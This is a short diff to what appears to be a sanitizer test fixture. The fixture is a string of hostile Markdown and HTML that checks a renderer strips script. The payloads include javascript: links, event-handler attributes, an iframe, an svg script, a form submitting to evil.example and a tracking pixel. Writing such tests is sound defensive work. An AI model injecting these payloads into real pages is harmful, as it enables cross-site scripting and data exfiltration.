@@ -15,8 +15,9 @@ HOSTILE = (
     "[click me](javascript:window.__pwned='link') and <a href=\"javascript:window.__pwned='raw-link'\">raw link</a>\n\n"
     "<b onclick=\"window.__pwned='click'\" onmouseover=\"window.__pwned='hover'\">bold raw html</b>\n\n"
     "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe><svg><script>window.__pwned='svg'</script></svg>\n\n"
-    "<form action=\"https://evil.example\"><input name=q value=steal></form><details open ontoggle=\"window.__pwned='toggle'\">x</details>\n\n"
-    "![tracker](https://evil.example/pixel.png) <demo.chart onload=\"window.__pwned='tag'\">{\"values\": [1]}</demo.chart>\n\n"
+    '<form action="https://evil.example"><input name=q value=steal></form>'
+    "<details open ontoggle=\"window.__pwned='toggle'\">x</details>\n\n"
+    '![tracker](https://evil.example/pixel.png) <demo.chart onload="window.__pwned=\'tag\'">{"values": [1]}</demo.chart>\n\n'
     "The end."
 )
 
